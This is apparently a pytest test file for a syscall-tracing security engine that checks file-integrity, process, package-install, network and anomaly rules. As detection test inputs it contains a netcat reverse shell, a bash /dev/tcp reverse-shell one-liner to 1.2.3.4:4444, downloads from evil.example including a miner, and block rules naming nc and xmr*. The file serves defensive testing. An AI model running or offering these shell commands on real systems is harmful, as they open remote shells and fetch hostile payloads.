"""The engine against SyscallEvents built by hand: every rule type, actions, requirements."""

from __future__ import annotations

import textwrap

import pytest

from sidecar.engine import Engine
from sidecar.events import (
    ACCESS_CREATE,
    ACCESS_READ,
    ACCESS_WRITE,
    ALLOW,
    KIND_CHMOD,
    KIND_CHOWN,
    KIND_CONNECT,
    KIND_EXEC,
    KIND_LISTEN,
    KIND_OPEN,
    KIND_OTHER,
    KIND_RENAME,
    KIND_SENDTO,
    KIND_UNLINK,
    SyscallEvent,
)
from sidecar.policy import load_policies, parse_policy_text, policies_dir, resolve_policy
from sidecar.policy import merge as merge_docs
from sidecar.policy_model import Policy

HEADER = "apiVersion: security.qualys.com/v1\nkind: TracingPolicy\nmetadata:\n  name: t\n"


def policy(spec: str) -> Policy:
    return merge_docs(
        parse_policy_text(
            HEADER + "spec:\n" + textwrap.indent(textwrap.dedent(spec), "  "), "test.yaml"
        )
    )


def ev(kind: str, syscall: str, **kw: object) -> SyscallEvent:
    base: dict[str, object] = dict(
        timestamp=100.0, pid=42, tid=42, ppid=1, exe="/usr/bin/python3.11"
    )
    base.update(kw)
    return SyscallEvent(kind=kind, syscall=syscall, **base)  # type: ignore[arg-type]


def exec_ev(*argv: str, path: str | None = None, **kw: object) -> SyscallEvent:
    return ev(KIND_EXEC, "execve", path=path or argv[0], argv=argv, **kw)


def open_ev(path: str, *access: str) -> SyscallEvent:
    return ev(KIND_OPEN, "openat", path=path, access=frozenset(access))


# -------------------------------------------------------------------------------- FIM

FIM = """\
fileIntegrityMonitoring:
  enabled: true
  paths:
    - {path: /etc/passwd, events: [open, write], severity: critical}
    - {path: /etc, recursive: true, events: [write, unlink, chmod, chown], severity: high}
    - {path: /srv/app, events: [write], severity: low, action: log}
    - {path: /tmp/*.sh, events: [chmod], severity: medium}
"""


def test_fim_open_and_write() -> None:
    engine = Engine(policy(FIM))
    read = engine.evaluate(open_ev("/etc/passwd", ACCESS_READ))
    assert [(e.rule, e.extra["event"], e.severity) for e in read.events] == [
        ("fim:/etc/passwd", "open", "critical")
    ]
    write = engine.evaluate(open_ev("/etc/passwd", ACCESS_WRITE))
    # two rules match; one event: the strongest (critical /etc/passwd over high /etc)
    assert [(e.rule, e.extra["event"]) for e in write.events] == [("fim:/etc/passwd", "write")]
    assert write.events[0].as_dict()["path"] == "/etc/passwd"
    assert not write.block


def test_fim_recursive_and_children() -> None:
    engine = Engine(policy(FIM))
    deep = engine.evaluate(open_ev("/etc/ssl/certs/x.pem", ACCESS_CREATE))
    assert [e.rule for e in deep.events] == ["fim:/etc"]
    assert engine.evaluate(open_ev("/etc/ssl/certs/x.pem", ACCESS_READ)).events == ()
    assert engine.evaluate(open_ev("/etcetera/x", ACCESS_WRITE)).events == ()
    # non-recursive directory: direct children only
    assert [e.rule for e in engine.evaluate(open_ev("/srv/app/a.py", ACCESS_WRITE)).events] == [
        "fim:/srv/app"
    ]
    assert engine.evaluate(open_ev("/srv/app/sub/a.py", ACCESS_WRITE)).events == ()


def test_fim_path_spellings_do_not_evade_or_hang() -> None:
    engine = Engine(policy(FIM))
    for spelling in ("//etc/passwd", "///etc//passwd", "/etc/./passwd", "/tmp/../etc/passwd"):
        events = engine.evaluate(open_ev(spelling, ACCESS_WRITE)).events
        assert [e.path for e in events] == ["/etc/passwd"], spelling
    assert engine.evaluate(open_ev("relative/file", ACCESS_WRITE)).events == ()


def test_fim_unlink_rename_chmod_chown_and_globs() -> None:
    engine = Engine(policy(FIM))
    assert (
        engine.evaluate(ev(KIND_UNLINK, "unlinkat", path="/etc/hosts")).events[0].extra["event"]
        == "unlink"
    )
    renamed = engine.evaluate(ev(KIND_RENAME, "rename", path="/tmp/x", path2="/etc/passwd"))
    assert [(e.path, e.extra["event"]) for e in renamed.events] == [("/etc/passwd", "write")]
    assert engine.evaluate(ev(KIND_CHMOD, "fchmodat", path="/etc/sudoers", mode=0o777)).events
    assert engine.evaluate(ev(KIND_CHOWN, "chown", path="/etc/shadow", uid=0)).events
    assert engine.evaluate(ev(KIND_CHMOD, "chmod", path="/tmp/run.sh")).events[0].rule == (
        "fim:/tmp/*.sh"
    )
    assert engine.evaluate(ev(KIND_CHMOD, "chmod", path="/tmp/run.py")).events == ()
    # /srv/app watches writes only
    assert engine.evaluate(ev(KIND_UNLINK, "unlink", path="/srv/app/a.py")).events == ()


def test_fim_disabled_section_is_silent() -> None:
    engine = Engine(policy(FIM.replace("enabled: true", "enabled: false")))
    assert engine.evaluate(open_ev("/etc/passwd", ACCESS_WRITE)).events == ()
    assert "openat" not in engine.requirements().syscalls


# ------------------------------------------------------------------------- processes

PROC = """\
processExecution:
  enabled: true
  trackedExecutables:
    - {name: /bin/bash, args: ["-i", "-c"], severity: high, captureArgs: true}
    - {name: nc, severity: critical, action: block}
    - {name: sh, argsPattern: "/dev/(tcp|udp)/", severity: critical, captureArgs: true}
    - {name: "xmr*", severity: critical, action: block}
"""


def test_process_by_path_with_args() -> None:
    engine = Engine(policy(PROC))
    hit = engine.evaluate(exec_ev("bash", "-ic", "id", path="/usr/bin/bash"))
    assert [e.rule for e in hit.events] == ["process:/bin/bash"]
    event = hit.events[0]
    assert event.args == ("bash", "-ic", "id") and event.category == "process"
    assert event.process == "/usr/bin/bash"
    assert engine.evaluate(exec_ev("/bin/bash", "script.sh")).events == ()  # no -i/-c
    assert engine.evaluate(exec_ev("/opt/bash", "-c", "x")).events == ()  # another bash


def test_the_calling_shell_is_not_the_program() -> None:
    """At an execve stop `exe` is still the caller: bash running `grep -i` is not `bash -i`."""
    engine = Engine(policy(PROC))
    grep = exec_ev("grep", "-i", "x", path="/usr/bin/grep", exe="/usr/bin/bash")
    assert engine.evaluate(grep).events == ()
    shell = engine.evaluate(exec_ev("bash", "-i", path="/bin/bash", exe="/usr/sbin/sshd"))
    assert shell.events[0].extra["caller"] == "/usr/sbin/sshd"
    # an exec reported after the fact (PTRACE_EVENT_EXEC) with no argv: exe is the program
    late = SyscallEvent(
        timestamp=1.0, pid=5, tid=5, ppid=1, exe="/usr/bin/nc", syscall="execve", kind=KIND_EXEC
    )
    assert engine.evaluate(late).block


def test_process_by_name_block_and_patterns() -> None:
    engine = Engine(policy(PROC))
    nc = engine.evaluate(exec_ev("/usr/bin/nc", "-e", "/bin/sh", "1.2.3.4", "4444"))
    assert nc.block and nc.events[0].action == "block"
    assert nc.events[0].args is None  # captureArgs false
    shell = engine.evaluate(
        exec_ev("sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", path="/bin/sh")
    )
    assert [e.rule for e in shell.events] == ["process:sh"] and not shell.block
    assert engine.evaluate(exec_ev("/bin/sh", "-c", "ls")).events == ()
    assert engine.evaluate(exec_ev("/tmp/xmrig", "--donate-level", "1")).block


def test_captured_args_mask_url_credentials() -> None:
    engine = Engine(policy(PROC))
    hit = engine.evaluate(exec_ev("/bin/bash", "-c", "curl https://bob:s3cr3t@host/x"))
    assert "s3cr3t" not in " ".join(hit.events[0].args or ())


# -------------------------------------------------------------------------- software

SOFT = """\
softwareInstallation:
  enabled: true
  packageManagers:
    - {name: apt-get, commands: [install]}
    - {name: pip}
    - {name: pip3, severity: high}
    - {name: apt}
    - {name: npm}
    - {name: yarn}
    - {name: go}
    - {name: cargo}
    - {name: apk}
    - {name: rpm}
    - {name: dpkg}
    - {name: gem}
    - {name: curl, severity: low, action: log}
    - {name: wget}
"""

INSTALLS = [
    (("apt-get", "-y", "install", "curl"), "apt-get"),
    (("pip", "install", "requests"), "pip"),
    (("/usr/local/bin/pip3.11", "install", "-U", "boto3"), "pip3"),
    (("python3", "-m", "pip", "install", "x"), "pip"),
    (("npm", "i", "left-pad"), "npm"),
    (("yarn", "global", "add", "x"), "yarn"),
    (("go", "install", "example.com/x@latest"), "go"),
    (("go", "get", "example.com/x"), "go"),
    (("cargo", "install", "ripgrep"), "cargo"),
    (("apk", "add", "--no-cache", "nmap"), "apk"),
    (("rpm", "-ivh", "x.rpm"), "rpm"),
    (("rpm", "-U", "x.rpm"), "rpm"),
    (("dpkg", "-i", "x.deb"), "dpkg"),
    (("gem", "install", "rails"), "gem"),
    (("curl", "-sSLo", "/tmp/x", "https://evil.example/x"), "curl"),
    (("wget", "http://evil.example/miner"), "wget"),
    # Each tool's grammar: global options that take values come before the subcommand
    # (apt-get(8) -o/-c/-t, pip's General Options, npm --prefix, apk -X, dnf --setopt).
    (("apt-get", "-o", "Dpkg::Options::=--force-confnew", "install", "x"), "apt-get"),
    (("apt-get", "-c", "/tmp/apt.conf", "-t", "bookworm-backports", "install", "x"), "apt-get"),
    (("apt", "-o", "APT::Get::Assume-Yes=1", "full-upgrade"), "apt"),
    (("pip", "--proxy", "http://proxy:3128", "install", "x"), "pip"),
    (("pip", "--cache-dir", "/tmp/c", "--log", "/tmp/l", "install", "x"), "pip"),
    (("/usr/bin/pip3.11", "--proxy", "http://p:1", "install", "x"), "pip3"),
    (("python3.11", "-I", "-m", "pip", "--proxy", "http://p:1", "install", "x"), "pip"),
    (("python3", "-X", "dev", "-mpip", "install", "x"), "pip"),
    (("npm", "--prefix", "/app", "i", "x"), "npm"),
    (("npm", "isntall", "x"), "npm"),
    (("npm", "ci"), "npm"),
    (("yarn", "add", "x"), "yarn"),
    (("yarn", "--cwd", "/app", "add", "x"), "yarn"),
    (("apk", "-X", "http://dl-cdn.alpinelinux.org/alpine/edge/main", "add", "nmap"), "apk"),
    (("apk", "--root", "/mnt", "add", "nmap"), "apk"),
]
NOT_INSTALLS = [
    ("apt-get", "-o", "APT::Get::Assume-Yes=1", "update"),
    ("pip", "--proxy", "http://proxy:3128", "list"),
    ("npm", "--prefix", "/app", "run", "install"),
    ("apk", "-X", "http://x/add", "info"),
    ("python3", "-c", "import pip; print('-m pip install')"),
    ("apt-get", "update"),
    ("pip", "list"),
    ("npm", "run", "build"),
    ("go", "build", "./..."),
    ("rpm", "-qi", "bash"),
    ("dpkg", "-l"),
    ("curl", "--version"),
    ("python3", "-m", "http.server"),
]


@pytest.mark.parametrize(("argv", "manager"), INSTALLS)
def test_software_installation(argv: tuple[str, ...], manager: str) -> None:
    verdict = Engine(policy(SOFT)).evaluate(exec_ev(*argv))
    assert [e.package_manager for e in verdict.events] == [manager]
    event = verdict.events[0].as_dict()
    assert event["category"] == "software" and event["package_manager"] == manager
    assert "args" not in event  # captureArgs is off unless the rule turns it on


def test_software_rules_honour_capture_args_and_mask_credentials() -> None:
    token = "ghp_" + "A1b2C3d4E5" * 4  # a GitHub token's shape (ghp_ + 36+ characters)
    argv = ("curl", "-H", f"Authorization: Bearer {token}", "https://x.example/a.sh")
    off = Engine(policy(SOFT)).evaluate(exec_ev(*argv)).events
    assert len(off) == 1 and off[0].args is None and token not in repr(off[0].as_dict())
    on = Engine(
        policy("softwareInstallation:\n  packageManagers:\n    - {name: curl, captureArgs: true}\n")
    ).evaluate(exec_ev(*argv))
    assert on.events[0].args == ("curl", "-H", "Authorization: Bearer ***",
                                 "https://x.example/a.sh")  # fmt: skip


@pytest.mark.parametrize("argv", NOT_INSTALLS)
def test_not_an_installation(argv: tuple[str, ...]) -> None:
    assert Engine(policy(SOFT)).evaluate(exec_ev(*argv)).events == ()


# --------------------------------------------------------------------------- network

NET = """\
networkMonitoring:
  enabled: true
  outboundConnections:
    allowlist: [10.0.0.0/8, 127.0.0.0/8, "fd00::/8"]
    blockedPorts: [22, 4444]
    blockedPortsAction: block
    severity: low
    action: log
"""


def connect(ip: str, port: int, family: str = "inet", kind: str = KIND_CONNECT) -> SyscallEvent:
    return ev(
        kind, "connect" if kind == KIND_CONNECT else "sendto", family=family, ip=ip, port=port
    )


def test_network_allowlist_and_blocked_ports() -> None:
    engine = Engine(policy(NET))
    assert engine.evaluate(connect("10.1.2.3", 443)).events == ()
    assert engine.evaluate(connect("::ffff:10.1.2.3", 443, "inet6")).events == ()
    assert engine.evaluate(connect("fd00::1", 443, "inet6")).events == ()
    out = engine.evaluate(connect("93.184.216.34", 443))
    assert [(e.rule, e.action, e.ip, e.port) for e in out.events] == [
        ("network:outside-allowlist", "log", "93.184.216.34", 443)
    ]
    assert out.events[0].subject() == "93.184.216.34:443"
    blocked = engine.evaluate(connect("10.0.0.5", 22))  # blocked even inside the allowlist
    assert blocked.block and blocked.events[0].rule == "network:blocked-port"
    assert (
        engine.evaluate(ev(KIND_CONNECT, "connect", family="unix", path="/run/x.sock")).events == ()
    )
    # UDP destinations only when the policy asks for them
    assert engine.evaluate(connect("8.8.8.8", 53, kind=KIND_SENDTO)).events == ()
    udp = Engine(policy(NET + "    udp: true\n"))
    assert udp.evaluate(connect("8.8.8.8", 53, kind=KIND_SENDTO)).events
    assert {"sendto", "sendmsg"} <= udp.requirements().syscalls


# -------------------------------------------------------------------------- syscalls


def test_syscall_filtering_and_whitelist() -> None:
    engine = Engine(
        policy(
            "syscallFiltering:\n  tracedSyscalls: [execve, ptrace, mount]\n"
            "  severity: high\n  action: alert\n"
        )
    )
    hit = engine.evaluate(ev(KIND_OTHER, "ptrace", args=(16, 99)))
    assert [(e.category, e.rule, e.severity) for e in hit.events] == [
        ("syscall", "syscall:ptrace", "high")
    ]
    assert engine.evaluate(ev(KIND_OTHER, "getpid")).events == ()  # not traced
    assert engine.evaluate(exec_ev("/bin/ls")).events == ()  # decoded: other rules' business
    whitelisted = Engine(resolve_overrides(engine.policy, "execve,mount"))
    assert whitelisted.evaluate(ev(KIND_OTHER, "mount")).events == ()
    assert whitelisted.evaluate(ev(KIND_OTHER, "ptrace")).events[0].rule == "syscall:ptrace"


def resolve_overrides(p: Policy, whitelist: str) -> Policy:
    from sidecar.policy import apply_overrides

    return apply_overrides(p, {"SYSCALL_WHITELIST": whitelist})


# ---------------------------------------------------------------------- requirements


def test_requirements_of_the_bundled_modes() -> None:
    minimal = Engine(resolve_policy({"MONITORING_MODE": "minimal"})).requirements()
    # every way to name a destination; sends stop only with MSG_FASTOPEN (no UDP rule)
    sends = {"sendto", "sendmsg", "sendmmsg"}
    assert minimal.syscalls - {"io_uring_setup"} == {"execve", "execveat", "connect"} | sends
    assert not minimal.sends_need_udp
    assert not minimal.process_only and not minimal.open_needs_read
    balanced = Engine(resolve_policy({"MONITORING_MODE": "balanced"})).requirements()
    every_write = {"open", "openat", "openat2", "creat", "truncate", "ftruncate", "link",
                   "linkat", "symlink", "symlinkat", "rename", "renameat", "renameat2"}  # fmt: skip
    assert every_write | {"unlinkat", "fchmodat", "fchmodat2", "execve"} <= balanced.syscalls
    assert not balanced.open_needs_read  # FIM on writes only: read-only opens never stop
    assert balanced.recheck_writes  # and a write open is judged again by its fd at exit
    # io_uring: refused by the filter when a rule blocks, an event otherwise
    blocks = "block" in {
        r.action for r in resolve_policy({"MONITORING_MODE": "balanced"}).fim.paths
    }
    assert ("io_uring_setup" in balanced.refused) == blocks
    assert ("io_uring_setup" in balanced.syscalls) != blocks
    aggressive = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
    assert aggressive.requirements().open_needs_read


def test_process_only_requirements() -> None:
    req = Engine(policy(PROC)).requirements()
    assert req.process_only and req.syscalls == {"execve", "execveat"}
    req = Engine(policy(SOFT)).requirements()
    assert req.process_only


# --------------------------------------------------------------------------- anomaly

ANOMALY = """\
anomalyDetection:
  enabled: true
  learningWindow: 60
  learningEvents: 1000
  alertThreshold: 0.7
"""


def test_anomaly_learns_then_scores() -> None:
    now = [0.0]
    engine = Engine(policy(ANOMALY), clock=lambda: now[0])
    learned = [
        exec_ev("/usr/bin/python3"),
        connect("10.0.0.1", 5432),
        open_ev("/srv/data/a.log", ACCESS_WRITE),
    ]
    for event in learned:
        assert engine.evaluate(event).events == ()  # learning
    now[0] = 61.0  # the window is over
    for event in learned:
        assert engine.evaluate(event).events == ()  # the baseline
    # a new executable alone scores 0.5 < 0.7 ...
    assert engine.evaluate(exec_ev("/tmp/dropper", pid=7)).events == ()
    # ... repeating the same novelty does not add up ...
    assert engine.evaluate(exec_ev("/tmp/dropper", pid=7)).events == ()
    # ... but a new destination from the same process does: 0.9 >= 0.7
    alert = engine.evaluate(
        ev(KIND_CONNECT, "connect", pid=7, family="inet", ip="6.6.6.6", port=4444)
    ).events
    assert [e.category for e in alert] == ["anomaly"]
    assert alert[0].score == pytest.approx(0.9)
    assert set(alert[0].extra["novelties"]) == {
        "executable=/tmp/dropper",
        "destination=6.6.6.6:4444",
    }
    # another process with a single novelty stays quiet
    assert engine.evaluate(open_ev("/var/tmp/x", ACCESS_WRITE)).events == ()


def test_anomaly_learning_ends_after_an_event_count() -> None:
    engine = Engine(policy(ANOMALY.replace("1000", "2").replace("0.7", "0.3")), clock=lambda: 0.0)
    engine.evaluate(exec_ev("/a"))
    engine.evaluate(exec_ev("/b"))
    assert engine.evaluate(exec_ev("/b")).events == ()
    assert engine.evaluate(exec_ev("/c")).events[0].rule == "anomaly:baseline-deviation"


def test_unmatched_events_share_the_allow_verdict() -> None:
    """The engine allocates nothing for events no rule matches (called at every stop)."""
    engine = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
    quiet = open_ev("/usr/lib/python3/x.py", ACCESS_READ)
    assert engine.evaluate(quiet) is engine.evaluate(quiet)  # the shared ALLOW verdict


def test_a_catastrophic_pattern_runs_in_linear_time() -> None:
    """`(\\w+\\s?)+$` backtracks exponentially in Python's `re` on a word followed by a
    non-word character (2^n paths for n characters): the issue measured an 18 s stall.
    Patterns are RE2 (sidecar.patterns), so 100,000 characters are one linear scan; with a
    backtracking engine this test would not finish."""
    engine = Engine(policy(
        "processExecution:\n  trackedExecutables:\n"
        "    - {name: sh, argsPattern: '(\\w+\\s?)+$', action: block}\n"
    ))  # fmt: skip
    assert type(engine._processes[0].pattern).__module__.startswith("re2")
    evil = exec_ev("sh", "-c", "a" * 100_000 + "!")
    assert engine.evaluate(evil).events == ()  # no match: ends in a non-word character
    assert engine.evaluate(exec_ev("sh", "-c", "echo hi")).block


def test_per_process_network_rules_and_listen_ports() -> None:
    engine = Engine(policy(
        "networkMonitoring:\n  outboundConnections:\n    allowlist: [0.0.0.0/0]\n"
        "    blockedPorts: [4444]\n"
        "  processes:\n    - {name: curl, allowlist: [10.0.0.0/8], allowedPorts: [443],"
        " action: block}\n"
        "  inboundConnections: {allowedPorts: [8080], action: alert}\n"
    ))  # fmt: skip

    def connect(exe: str, ip: str, port: int) -> tuple[str, ...]:
        call = ev(KIND_CONNECT, "connect", exe=exe, family="inet", ip=ip, port=port)
        return tuple(e.rule for e in engine.evaluate(call).events)

    assert connect("/usr/bin/curl", "10.1.2.3", 443) == ()  # its own rule allows it
    assert connect("/usr/bin/curl", "10.1.2.3", 80) == ("network:process:curl",)
    assert connect("/usr/bin/curl", "203.0.113.9", 443) == ("network:process:curl",)
    assert engine.evaluate(ev(KIND_CONNECT, "connect", exe="/usr/bin/curl", family="inet",
                              ip="203.0.113.9", port=443)).block  # fmt: skip
    assert connect("/usr/bin/python3", "203.0.113.9", 443) == ()  # the section's allowlist
    assert connect("/usr/bin/curl", "10.1.2.3", 4444) == ("network:blocked-port",)
    listen = ev(KIND_LISTEN, "listen", family="inet", ip="0.0.0.0", port=4444)
    assert [e.rule for e in engine.evaluate(listen).events] == ["network:listen-not-allowed"]
    assert (
        engine.evaluate(ev(KIND_LISTEN, "listen", family="inet", ip="0.0.0.0", port=8080)) == ALLOW
    )
